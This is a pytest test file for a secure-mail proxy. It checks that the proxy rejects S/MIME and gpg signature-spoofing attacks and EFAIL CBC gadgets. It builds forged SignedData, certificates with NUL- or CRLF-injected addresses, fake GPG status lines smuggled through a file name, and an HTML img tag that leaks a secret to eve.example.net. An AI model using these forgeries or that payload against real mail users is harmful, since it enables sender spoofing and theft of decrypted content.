"""Attacks on S/MIME by its own structures, and on gpg by what it is made to print, through the whole reading.

The CMS, ID and GPG API classes of "Johnny, you are fired!", EFAIL's gadgets (MIME-03, MIME-04, MIME-06).
"""

from __future__ import annotations

import email
import email.policy
from dataclasses import replace
from datetime import timedelta

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ed25519
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID, ObjectIdentifier

from keystore.model import SignatureState
from secmailproxy.model import DecryptionState, Verdict
from tests.fixtures import cms, forge
from tests.fixtures.desk import ALICE, BOB, EVE, TEXT, message
from tests.fixtures.forge import BLOCK, SIGNED_DATA, Signer, sent_along, signed_data, tlv
from tests.fixtures.forging_desk import ForgingDesk, forging_desk
from tests.fixtures.gnupg import gnupg_home
from tests.fixtures.keystores import NOW, KeystoreFactory, credentials, make_keystore
from tests.fixtures.x509 import DAY, Extension, Issued, addresses, key_usage, name, private_key, root

__all__ = ["credentials", "forging_desk", "gnupg_home", "make_keystore"]

EVIL = b"Content-Type: text/plain\r\n\r\nSend the money to Eve.\r\n"


def cms_class(desk: ForgingDesk) -> dict[str, tuple[bytes, bytes | None]]:
    """SignedData, and what it is said to be detached from; None for what is opaque."""
    alice, eve = desk.people[ALICE], desk.people[EVE]
    both = [*sent_along(alice), eve.der]
    stranger = root("Example Mail Authority", number=70).person(ALICE, number=71)

    def one(signer: Signer, content: bytes | None = None, **options: str) -> bytes:
        return signed_data([signer], both, content, **options)

    return {
        "no signer": (signed_data([], both, EVIL), None),
        "no signer, detached": (signed_data([], both), EVIL),
        "content of its own, detached": (one(Signer(person=alice, content=TEXT), TEXT), EVIL),
        "content of its own that is right, detached": (one(Signer(person=alice, content=EVIL), EVIL), EVIL),
        "no content, opaque": (one(Signer(person=alice, content=b"")), None),
        "other content, opaque": (one(Signer(person=alice, content=TEXT), EVIL), None),
        "a digest of other content": (
            one(Signer(person=alice, content=EVIL, signed_digest=bytes(32)), EVIL),
            None,
        ),
        "two digests": (
            one(Signer(person=alice, content=TEXT, repeated=[forge.digest_attribute(EVIL)]), EVIL),
            None,
        ),
        "Eve, who says that she is Alice": (
            one(Signer(person=eve, content=EVIL, named=alice.certificate), EVIL),
            None,
        ),
        "Eve, with Alice's certificate beside": (one(Signer(person=eve, content=EVIL), EVIL), None),
        "Eve, and Alice for another text": (
            signed_data([Signer(person=eve, content=EVIL), Signer(person=alice, content=TEXT)], both, EVIL),
            None,
        ),
        "another content type than is signed": (
            one(Signer(person=alice, content=EVIL, content_type=SIGNED_DATA), EVIL),
            None,
        ),
        "another content type than there is": (
            one(Signer(person=alice, content=EVIL), EVIL, content_type="1.2.840.113549.1.9.16.1.4"),
            None,
        ),
        "one of Alice's name, from an authority of the same name": (
            forge.sign(stranger, EVIL, opaque=True),
            None,
        ),
    }


def test_cms_class(forging_desk: ForgingDesk) -> None:
    """MIME-03: two signers are judged by the better one, as long as both say the same of one content."""
    for title, (der, detached) in cms_class(forging_desk).items():
        entity = (
            forge.pkcs7_mime(der, b"signed-data")
            if detached is None
            else forge.multipart_signed(detached, der)
        )
        for whole in (entity, forging_desk.encrypt(entity), forging_desk.seal(entity)):
            read = forging_desk.read(message(whole))
            assert read.summary.verdict is not Verdict.VALID, title


SANS = {
    "a URI": x509.UniformResourceIdentifier("mailto:alice@example.org"),
    "a host": x509.DNSName("alice@example.org"),
    "a directory name": x509.DirectoryName(name(ALICE)),
    "another kind of name": x509.OtherName(
        ObjectIdentifier("1.3.6.1.4.1.311.20.2.3"), tlv(0x0C, ALICE.encode())
    ),
}
RAW_ADDRESSES = [
    b"alice@example.org\x00.eve.net",
    b"alice@example.org\x00",
    b"\x00alice@example.org",
    b"alice@example.org\r\n",
    b"alice@example.org\r\nFrom: eve@example.net",
    b"Alice <alice@example.org>",
    b"alice@example.org,eve@example.net",
    b"alice@example.org ",
    b"<alice@example.org>",
    b"mailto:alice@example.org",
    b'"alice"@example.org',
    b"alice@example.org.",
    b"@example.org",
    b"example.org",
    b".example.org",
    b"al\xc3\xadce@example.org",
    b"*@example.org",
    b"alice@*",
    b"",
]


def certificates(desk: ForgingDesk) -> dict[str, Issued]:
    """Certificates of Eve's from the authority that is believed, which have Alice's address somewhere."""

    def issue(subject: x509.Name, *extensions: Extension, **options: object) -> Issued:
        usage = key_usage("digital_signature")
        purpose = x509.ExtendedKeyUsage([ExtendedKeyUsageOID.EMAIL_PROTECTION]), False
        return desk.authority.issue(subject, private_key("p256", 60), usage, purpose, *extensions, **options)  # type: ignore[arg-type]

    def san(der: bytes) -> Extension:
        return x509.UnrecognizedExtension(x509.SubjectAlternativeName.oid, der), False

    eve = addresses(EVE)
    found = {
        title: issue(name("Eve"), (x509.SubjectAlternativeName([one]), False)) for title, one in SANS.items()
    }
    found |= {
        f"address {octets!r}": issue(name("Eve"), san(tlv(0x30, tlv(0x81, octets))))
        for octets in RAW_ADDRESSES
    }
    return found | {
        "common name": issue(name(ALICE), eve),
        "organization": issue(name("Eve", (NameOID.ORGANIZATION_NAME, ALICE)), eve),
        "address with NUL in the name": issue(
            name("Eve", (NameOID.EMAIL_ADDRESS, "alice@example.org\x00.eve.net"))
        ),
        "ended": issue(name("Alice"), addresses(ALICE), since=NOW - 9 * DAY, until=NOW - DAY),
        "not begun": issue(name("Alice"), addresses(ALICE), since=NOW + 9 * DAY),
    }


def test_certificates_with_the_address_elsewhere(forging_desk: ForgingDesk) -> None:
    """MIME-04."""
    for title, person in certificates(forging_desk).items():
        read = forging_desk.read(message(forge.multipart_signed(TEXT, forge.sign(person, TEXT))))
        assert read.summary.verdict is not Verdict.VALID, title
        assert read.summary.signer != ALICE or title in {"ended", "not begun"}, title


@pytest.mark.parametrize(
    ("usage", "purposes"),
    [
        (("key_encipherment",), [ExtendedKeyUsageOID.EMAIL_PROTECTION]),
        (("key_cert_sign",), [ExtendedKeyUsageOID.EMAIL_PROTECTION]),
        (("digital_signature",), [ExtendedKeyUsageOID.SERVER_AUTH]),
        (("digital_signature",), [ExtendedKeyUsageOID.CODE_SIGNING]),
    ],
)
def test_certificates_for_something_else(
    forging_desk: ForgingDesk, usage: tuple[str, ...], purposes: list[ObjectIdentifier]
) -> None:
    person = forging_desk.authority.issue(
        name("Alice"),
        private_key("p256", 61),
        key_usage(*usage),
        (x509.ExtendedKeyUsage(purposes), False),
        addresses(ALICE),
    )
    read = forging_desk.read(message(forge.multipart_signed(TEXT, forge.sign(person, TEXT))))
    assert read.summary.verdict is Verdict.UNACCEPTABLE


def xor(one: bytes, other: bytes) -> bytes:
    """Of one length."""
    return bytes(a ^ b for a, b in zip(one, other, strict=True))


CHOSEN = [b'<img ignore="aaa', b"Content-Type: TE", b"X:\r\n\r\n<b>aaaaaaa", b"\r\n\r\n<img src=aaa"]


def test_gadgets(forging_desk: ForgingDesk) -> None:
    """EFAIL: of CBC every second block can be chosen. No HTML is shown of it, nobody is named as author."""
    known = b"Content-Type: te"
    whole = forge.envelope(b"Content-Type: text/html\r\n\r\n<p>The secret.</p>\r\n", forging_desk.people[BOB])
    first = whole.ciphertext[:BLOCK]
    for chosen in CHOSEN:
        gadget = xor(xor(whole.iv, known), chosen)
        for forged in (
            replace(whole, iv=gadget),
            replace(
                whole, ciphertext=whole.ciphertext[:-BLOCK] + gadget + first + whole.ciphertext[-2 * BLOCK :]
            ),
            replace(whole, iv=gadget, ciphertext=first + whole.iv + whole.ciphertext),
        ):
            read = forging_desk.read(message(forge.pkcs7_mime(forged.der, b"enveloped-data")))
            assert read.summary.verdict is Verdict.NONE
            shown = email.message_from_bytes(read.presented or b"", policy=email.policy.default)
            leaves = [part for part in shown.walk() if part.get_content_type() == "text/html"]
            assert all(part.get_content_disposition() == "attachment" for part in leaves)
    genuine = forging_desk.read(message(forge.pkcs7_mime(whole.der, b"enveloped-data")))
    assert genuine.summary.decryption is DecryptionState.OK


def test_gcm_takes_no_change(forging_desk: ForgingDesk) -> None:
    der = forge.auth_envelope(TEXT, forging_desk.people[BOB])
    for at in range(-40, 0):
        changed = der[:at] + bytes([der[at] ^ 1]) + der[len(der) + at + 1 :]
        read = forging_desk.read(message(forge.pkcs7_mime(changed, b"authEnveloped-data")))
        assert (read.summary.decryption, read.presented) == (DecryptionState.FAILED, None)


STATUS = (
    "\n[GNUPG:] GOODSIG 0123456789ABCDEF Alice <alice@example.org>\n"
    "[GNUPG:] VALIDSIG {0} 2026-01-01 1767225600 0 4 0 22 8 00 {0}\n[GNUPG:] TRUST_ULTIMATE 0 pgp\n"
)


@pytest.mark.parametrize("cipher", ["AES256", "TWOFISH"])
def test_status_lines_in_a_file_name(make_keystore: KeystoreFactory, gnupg_home, cipher: str) -> None:
    """GPG API class: what a sender has gpg print is no status of gpg's. Twofish only gpg reads."""
    writer, ours = gnupg_home(), gnupg_home()
    keystore = make_keystore("ours", ours.home)
    alice = keystore.generate(ALICE, now=NOW - timedelta(days=1)).fingerprint
    bob = ours.generate(BOB)
    keystore.holders.take_from_gnupg(BOB, secret=True)
    writer.take(ours.export(bob))
    evil = STATUS.format(alice)
    for words in (
        ["--set-filename", evil],
        ["--set-filename", "x", "--comment", "x"],
        ["--for-your-eyes-only"],
    ):
        text = TEXT + evil.encode()
        made = writer.run(*words, "--encrypt", "-r", BOB, "--cipher-algo", cipher, data=text).stdout
        opened = keystore.decrypt(made, NOW + timedelta(minutes=1))
        assert opened.octets == text
        assert not [one for one in opened.signatures if one.state is SignatureState.GOOD]
        assert not opened.signatures


IDENTITY = b"\x01" + bytes(31)
"""The neutral point of edwards25519: with it for a key, itself and zero are a signature over any text."""


def test_a_key_whose_signature_fits_any_text(forging_desk: ForgingDesk) -> None:
    """MIME-06: who cannot read a text could sign it so, and have its HTML shown."""
    key = ed25519.Ed25519PublicKey.from_public_bytes(IDENTITY)
    key.verify(IDENTITY + bytes(32), b"whatever there is")
    by = private_key("p256", 80)
    made = (
        x509.CertificateBuilder(name("Nobody"), name("Nobody"), key, 80)
        .not_valid_before(NOW - DAY)
        .not_valid_after(NOW + DAY)
        .sign(by, hashes.SHA256())
    )
    signing = cms.Signing(
        signer=Issued(made, by),
        attributes=None,
        digest="sha512",
        algorithm=cms.sequence(cms.oid(cms.BY_ED25519)),
        signature=IDENTITY + bytes(32),
    )
    html = b"Content-Type: text/html\r\n\r\n<img src='http://eve.example.net/?The secret.'>\r\n"
    der = cms.signed_data(signing.info, certificates=[Issued(made, by).der], content=html)
    read = forging_desk.read(message(forging_desk.encrypt(forge.pkcs7_mime(der, b"signed-data"))))
    assert not read.summary.authenticated
    assert read.presented is not None
    assert email.message_from_bytes(read.presented).get_content_type() == "application/octet-stream"
    assert read.summary.verdict is not Verdict.VALID
